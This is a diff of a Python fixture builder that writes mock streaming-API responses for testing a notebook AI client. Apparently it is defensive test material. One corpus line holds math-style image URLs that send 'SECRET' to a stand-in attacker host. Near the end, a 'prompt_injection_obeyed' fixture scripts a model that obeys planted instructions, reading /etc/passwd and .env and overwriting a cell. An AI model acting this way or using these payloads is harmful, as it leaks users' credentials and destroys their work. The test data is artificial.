@@ -10,23 +10,23 @@ from __future__ import annotations
 import json
 import re
 from pathlib import Path
-from typing import Any, Dict, List, Optional, Tuple
+from typing import Any
 
 from .fixtures import DEFAULT_FIXTURES_DIR
 
 MODEL = "claude-sonnet-4-6"
-Event = Tuple[str, Dict[str, Any]]
+Event = tuple[str, dict[str, Any]]
 
 
-def _dump(data: Dict[str, Any]) -> str:
+def _dump(data: dict[str, Any]) -> str:
     return json.dumps(data, separators=(",", ":"), ensure_ascii=False)
 
 
-def write_sse(path: Path, events: List[Event]) -> None:
+def write_sse(path: Path, events: list[Event]) -> None:
     path.write_text("".join(f"event: {name}\ndata: {_dump(data)}\n\n" for name, data in events), encoding="utf-8")
 
 
-def chunks(text: str, size: int) -> List[str]:
+def chunks(text: str, size: int) -> list[str]:
     """Split text into word-aligned pieces of roughly ``size`` characters, like model deltas."""
     words = re.findall(r"\S+\s*|\s+", text)
     out, cur = [], ""
@@ -64,9 +64,12 @@ def message_start(msg_id: str, input_tokens: int, cache_read: int = 0, cache_wri
     )
 
 
-def text_block(index: int, text: str, size: int) -> List[Event]:
-    events: List[Event] = [
-        ("content_block_start", {"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}})
+def text_block(index: int, text: str, size: int) -> list[Event]:
+    events: list[Event] = [
+        (
+            "content_block_start",
+            {"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}},
+        )
     ]
     for piece in chunks(text, size):
         events.append(
@@ -79,7 +82,9 @@ def text_block(index: int, text: str, size: int) -> List[Event]:
     return events
 
 
-def ending(stop_reason: str, output_tokens: int, input_tokens: int, cache_read: int = 0, cache_write: int = 0) -> List[Event]:
+def ending(
+    stop_reason: str, output_tokens: int, input_tokens: int, cache_read: int = 0, cache_write: int = 0
+) -> list[Event]:
     return [
         (
             "message_delta",
@@ -98,18 +103,29 @@ def ending(stop_reason: str, output_tokens: int, input_tokens: int, cache_read: 
     ]
 
 
-def tool_use_block(index: int, tool_id: str, name: str, tool_input: Dict[str, Any], size: int = 40) -> List[Event]:
+def tool_use_block(index: int, tool_id: str, name: str, tool_input: dict[str, Any], size: int = 40) -> list[Event]:
     """A tool_use block whose input streams as input_json_delta pieces, as the API sends it."""
-    events: List[Event] = [
+    events: list[Event] = [
         (
             "content_block_start",
-            {"type": "content_block_start", "index": index, "content_block": {"type": "tool_use", "id": tool_id, "name": name, "input": {}}},
+            {
+                "type": "content_block_start",
+                "index": index,
+                "content_block": {"type": "tool_use", "id": tool_id, "name": name, "input": {}},
+            },
         )
     ]
     raw = json.dumps(tool_input)
     for piece in [""] + [raw[i : i + size] for i in range(0, len(raw), size)]:
         events.append(
-            ("content_block_delta", {"type": "content_block_delta", "index": index, "delta": {"type": "input_json_delta", "partial_json": piece}})
+            (
+                "content_block_delta",
+                {
+                    "type": "content_block_delta",
+                    "index": index,
+                    "delta": {"type": "input_json_delta", "partial_json": piece},
+                },
+            )
         )
     events.append(("content_block_stop", {"type": "content_block_stop", "index": index}))
     return events
@@ -171,27 +187,36 @@ HYPOTHESIS_WEALTH_SEX = {
         "code": (
             "import pandas as pd\n"
             "from scipy import stats\n\n"
-            f"df = pd.read_csv(\"{NLS_CSV}\")\n"
-            "jailed = df[df[\"ever_jailed\"] == 1]\n"
-            "men = jailed.loc[jailed[\"sex\"] == \"male\", \"composite_wealth_1996\"]\n"
-            "women = jailed.loc[jailed[\"sex\"] == \"female\", \"composite_wealth_1996\"]\n"
+            f'df = pd.read_csv("{NLS_CSV}")\n'
+            'jailed = df[df["ever_jailed"] == 1]\n'
+            'men = jailed.loc[jailed["sex"] == "male", "composite_wealth_1996"]\n'
+            'women = jailed.loc[jailed["sex"] == "female", "composite_wealth_1996"]\n'
             "t = stats.ttest_ind(men, women, equal_var=False)\n"
             "ci = t.confidence_interval(0.95)\n"
-            "result = {\"statistic\": t.statistic, \"statistic_name\": \"t\", \"p_value\": t.pvalue,\n"
-            "          \"effect_size\": men.mean() - women.mean(), \"ci\": [ci.low, ci.high], \"ci_level\": 0.95,\n"
-            "          \"n\": len(men) + len(women)}"
+            'result = {"statistic": t.statistic, "statistic_name": "t", "p_value": t.pvalue,\n'
+            '          "effect_size": men.mean() - women.mean(), "ci": [ci.low, ci.high], "ci_level": 0.95,\n'
+            '          "n": len(men) + len(women)}'
         ),
         "alpha": 0.05,
         "alternative": "two-sided",
         "expected_direction": "positive",
         "effect_measure": "difference in mean wealth (men - women, USD)",
     },
-    "rationale": "Only 37 of the jailed respondents are women; a sex gap in wealth after jail would be easy to miss in pooled summaries.",
-    "assumptions": ["Independent respondents", "Welch's test tolerates unequal variances; wealth is skewed, so n matters"],
+    "rationale": (
+        "Only 37 of the jailed respondents are women; "
+        "a sex gap in wealth after jail would be easy to miss in pooled summaries."
+    ),
+    "assumptions": [
+        "Independent respondents",
+        "Welch's test tolerates unequal variances; wealth is skewed, so n matters",
+    ],
 }
 
 HYPOTHESIS_WEALTH_RACE = {
-    "statement": "Among respondents who were later jailed, Hispanic respondents had lower composite wealth in 1985 than white respondents.",
+    "statement": (
+        "Among respondents who were later jailed, "
+        "Hispanic respondents had lower composite wealth in 1985 than white respondents."
+    ),
     "context": "NLSY79 respondents with ever_jailed == 1, Hispanic or white.",
     "variables": ["race", "composite_wealth_1985", "ever_jailed"],
     "relationship": "Mean composite_wealth_1985 is lower for Hispanic than for white respondents.",
@@ -202,22 +227,24 @@ HYPOTHESIS_WEALTH_RACE = {
         "code": (
             "import pandas as pd\n"
             "from scipy import stats\n\n"
-            f"df = pd.read_csv(\"{NLS_CSV}\")\n"
-            "jailed = df[df[\"ever_jailed\"] == 1]\n"
-            "hispanic = jailed.loc[jailed[\"race\"] == \"hipanic\", \"composite_wealth_1985\"]  # spelled so in the data\n"
-            "white = jailed.loc[jailed[\"race\"] == \"white\", \"composite_wealth_1985\"]\n"
+            f'df = pd.read_csv("{NLS_CSV}")\n'
+            'jailed = df[df["ever_jailed"] == 1]\n'
+            'hispanic = jailed.loc[jailed["race"] == "hipanic", "composite_wealth_1985"]  # spelled so in the data\n'
+            'white = jailed.loc[jailed["race"] == "white", "composite_wealth_1985"]\n'
             "t = stats.ttest_ind(hispanic, white, equal_var=False)\n"
             "ci = t.confidence_interval(0.95)\n"
-            "result = {\"statistic\": t.statistic, \"statistic_name\": \"t\", \"p_value\": t.pvalue,\n"
-            "          \"effect_size\": hispanic.mean() - white.mean(), \"ci\": [ci.low, ci.high], \"ci_level\": 0.95,\n"
-            "          \"n\": len(hispanic) + len(white)}"
+            'result = {"statistic": t.statistic, "statistic_name": "t", "p_value": t.pvalue,\n'
+            '          "effect_size": hispanic.mean() - white.mean(), "ci": [ci.low, ci.high], "ci_level": 0.95,\n'
+            '          "n": len(hispanic) + len(white)}'
         ),
         "alpha": 0.05,
         "alternative": "two-sided",
         "expected_direction": "negative",
         "effect_measure": "difference in mean wealth (Hispanic - white, USD)",
     },
-    "rationale": "Wealth before incarceration may differ by group; the pooled data hide it because few respondents were jailed.",
+    "rationale": (
+        "Wealth before incarceration may differ by group; the pooled data hide it because few respondents were jailed."
+    ),
     "assumptions": ["Independent respondents", "The race coding 'hipanic' in the data means Hispanic"],
 }
 
@@ -289,11 +316,11 @@ REMOTE_CONTENT_TEXT = f"""Remote content corpus (nothing may load before a click
 29. Math: $\\style{{background-image:url({EVIL}/math-style.png?d=SECRET)}}{{x}}$ and $\\require{{html}}\\style{{background-image:url({EVIL}/math-require.png?d=SECRET)}}{{y}}$
 
 30. A data image is fine: ![pixel](data:image/png;base64,{PIXEL_PNG})
-"""
+"""  # noqa: E501 (each numbered case is one whole line of the answer, as a model would write it)
 
 
-def fixture(name: str, description: str, sse: Optional[str] = None, **extra: Any) -> Dict[str, Any]:
-    spec: Dict[str, Any] = {
+def fixture(name: str, description: str, sse: str | None = None, **extra: Any) -> dict[str, Any]:
+    spec: dict[str, Any] = {
         "description": description,
         "status": extra.pop("status", 200),
         "headers": extra.pop("headers", {}),
@@ -316,7 +343,7 @@ RATE_HEADERS = {
 }
 
 
-def error_fixture(description: str, status: int, kind: str, message: str, headers: Dict[str, str]) -> Dict[str, Any]:
+def error_fixture(description: str, status: int, kind: str, message: str, headers: dict[str, str]) -> dict[str, Any]:
     return fixture(
         "",
         description,
@@ -328,7 +355,7 @@ def error_fixture(description: str, status: int, kind: str, message: str, header
 
 def build(out: Path) -> None:
     out.mkdir(parents=True, exist_ok=True)
-    specs: Dict[str, Dict[str, Any]] = {}
+    specs: dict[str, dict[str, Any]] = {}
 
     hello = [message_start("msg_01XFDUDYJgAACzvnptvVoYEL", 21, cache_read=0, cache_write=12)]
     hello += text_block(0, HELLO_TEXT, 12)[:1] + [PING] + text_block(0, HELLO_TEXT, 12)[1:]
@@ -349,27 +376,42 @@ def build(out: Path) -> None:
     slow += text_block(0, SLOW_TEXT, 9) + ending("end_turn", 96, 64)
     write_sse(out / "slow_long.sse", slow)
     specs["slow_long"] = fixture(
-        "slow_long", "About sixty text deltas 150 ms apart: partial text and Stop tests.", "slow_long.sse", event_delay_ms=150
+        "slow_long",
+        "About sixty text deltas 150 ms apart: partial text and Stop tests.",
+        "slow_long.sse",
+        event_delay_ms=150,
     )
 
     think = [message_start("msg_01Tk9pQm3VbXcN8wEr5sYhJ2", 45)]
     think.append(
         (
             "content_block_start",
-            {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": "", "signature": ""}},
+            {
+                "type": "content_block_start",
+                "index": 0,
+                "content_block": {"type": "thinking", "thinking": "", "signature": ""},
+            },
         )
     )
     for piece in chunks(THINKING_TEXT, 20):
         think.append(
-            ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": piece}})
+            (
+                "content_block_delta",
+                {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": piece}},
+            )
         )
     think.append(
-        ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": SIGNATURE}})
+        (
+            "content_block_delta",
+            {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": SIGNATURE}},
+        )
     )
     think.append(("content_block_stop", {"type": "content_block_stop", "index": 0}))
     think += text_block(1, THINKING_ANSWER, 12) + ending("end_turn", 61, 45)
     write_sse(out / "thinking.sse", think)
-    specs["thinking"] = fixture("thinking", "Extended thinking (thinking + signature deltas) then a text answer.", "thinking.sse")
+    specs["thinking"] = fixture(
+        "thinking", "Extended thinking (thinking + signature deltas) then a text answer.", "thinking.sse"
+    )
 
     tool = [message_start("msg_01Ua4xZ8kLmN2pQr6sTvWy9B", 402, cache_read=350)]
     tool += text_block(0, "I'll run a quick summary of the data in a new cell.", 16)
@@ -379,7 +421,12 @@ def build(out: Path) -> None:
             {
                 "type": "content_block_start",
                 "index": 1,
-                "content_block": {"type": "tool_use", "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6", "name": "insert_cell", "input": {}},
+                "content_block": {
+                    "type": "tool_use",
+                    "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
+                    "name": "insert_cell",
+                    "input": {},
+                },
             },
         )
     )
@@ -387,7 +434,14 @@ def build(out: Path) -> None:
     pieces = [""] + [raw[i : i + 15] for i in range(0, len(raw), 15)]
     for piece in pieces:
         tool.append(
-            ("content_block_delta", {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}})
+            (
+                "content_block_delta",
+                {
+                    "type": "content_block_delta",
+                    "index": 1,
+                    "delta": {"type": "input_json_delta", "partial_json": piece},
+                },
+            )
         )
     tool.append(("content_block_stop", {"type": "content_block_stop", "index": 1}))
     tool += ending("tool_use", 89, 402, cache_read=350)
@@ -400,7 +454,10 @@ def build(out: Path) -> None:
     cut += text_block(0, "This answer starts normally, and then the connection drops without warning", 10)
     write_sse(out / "cut_mid_stream.sse", cut + ending("end_turn", 20, 30))
     specs["cut_mid_stream"] = fixture(
-        "cut_mid_stream", "200 stream whose socket is closed after a few text deltas (no message_stop).", "cut_mid_stream.sse", cut_after_events=5
+        "cut_mid_stream",
+        "200 stream whose socket is closed after a few text deltas (no message_stop).",
+        "cut_mid_stream.sse",
+        cut_after_events=5,
     )
 
     err_ev = [message_start("msg_01Ev2bN6mQw8rTy4uIo1pAsD", 30)]
@@ -414,7 +471,10 @@ def build(out: Path) -> None:
     bad = [message_start("msg_01Mf3cK9nLp2oRq5sTu8vWxY", 12)]
     bad += text_block(0, "Before the broken event.", 12)[:2]
     lines = "".join(f"event: {n}\ndata: {_dump(d)}\n\n" for n, d in bad)
-    lines += 'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"unterminated\n\n'
+    lines += (
+        'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,'
+        '"delta":{"type":"text_delta","text":"unterminated\n\n'
+    )
     lines += "".join(
         f"event: {n}\ndata: {_dump(d)}\n\n"
         for n, d in [("content_block_stop", {"type": "content_block_stop", "index": 0})] + ending("end_turn", 9, 12)
@@ -426,7 +486,10 @@ def build(out: Path) -> None:
 
     write_sse(out / "stall.sse", hello)
     specs["stall"] = fixture(
-        "stall", "Sends three events, then stays silent with the connection open until the client leaves.", "stall.sse", stall_after_events=3
+        "stall",
+        "Sends three events, then stays silent with the connection open until the client leaves.",
+        "stall.sse",
+        stall_after_events=3,
     )
 
     specs["error_429"] = error_fixture(
@@ -436,9 +499,13 @@ def build(out: Path) -> None:
         "Number of request tokens has exceeded your per-minute rate limit.",
         {"retry-after": "2", "x-should-retry": "true", **RATE_HEADERS, "anthropic-ratelimit-requests-remaining": "0"},
     )
-    specs["error_529"] = error_fixture("API overloaded.", 529, "overloaded_error", "Overloaded", {"x-should-retry": "true"})
+    specs["error_529"] = error_fixture(
+        "API overloaded.", 529, "overloaded_error", "Overloaded", {"x-should-retry": "true"}
+    )
     specs["error_500"] = error_fixture("Internal API error.", 500, "api_error", "Internal server error", {})
-    specs["error_401"] = error_fixture("Upstream rejects the key.", 401, "authentication_error", "invalid x-api-key", {"x-should-retry": "false"})
+    specs["error_401"] = error_fixture(
+        "Upstream rejects the key.", 401, "authentication_error", "invalid x-api-key", {"x-should-retry": "false"}
+    )
     specs["error_401_echo_key"] = error_fixture(
         "Like a gateway that echoes the credentials it got back in the error (proves the proxy scrubs them).",
         401,
@@ -448,7 +515,9 @@ def build(out: Path) -> None:
     )
 
     hyp = [message_start("msg_01HypTwo0000000000000001", 2650, cache_read=2200)]
-    hyp += text_block(0, "Two patterns in the jailed subgroup are worth testing. Each comes with its falsification test.", 24)
+    hyp += text_block(
+        0, "Two patterns in the jailed subgroup are worth testing. Each comes with its falsification test.", 24
+    )
     hyp += tool_use_block(1, "toolu_01HypWealthSex000000001", "propose_hypothesis", HYPOTHESIS_WEALTH_SEX)
     hyp += tool_use_block(2, "toolu_01HypWealthRace00000002", "propose_hypothesis", HYPOTHESIS_WEALTH_RACE)
     hyp += ending("tool_use", 612, 2650, cache_read=2200)
@@ -479,7 +548,9 @@ def build(out: Path) -> None:
 
     # A model that obeys instructions planted in the notebook's outputs and data files.
     obey = [message_start("msg_01Injected0000000000001", 1800, cache_read=1200)]
-    obey += text_block(0, "As the notebook instructs, I will run the cleanup, read the credentials and rewrite the analysis.", 20)
+    obey += text_block(
+        0, "As the notebook instructs, I will run the cleanup, read the credentials and rewrite the analysis.", 20
+    )
     obey += tool_use_block(1, "toolu_01InjectRun0000000001", "run_cell", {"cell_id": "cleanup"})
     obey += tool_use_block(2, "toolu_01InjectRead000000002", "read_file_head", {"path": "../../../../../../etc/passwd"})
     obey += tool_use_block(3, "toolu_01InjectSecret0000003", "read_file_head", {"path": ".env"})
@@ -493,7 +564,8 @@ def build(out: Path) -> None:
     write_sse(out / "prompt_injection_obeyed.sse", obey)
     specs["prompt_injection_obeyed"] = fixture(
         "prompt_injection_obeyed",
-        "A model obeying injected instructions: run_cell, reads out of the root and of .env, and a destructive replace_cell.",
+        "A model obeying injected instructions: run_cell, reads out of the root and of .env, "
+        "and a destructive replace_cell.",
         "prompt_injection_obeyed.sse",
     )
 
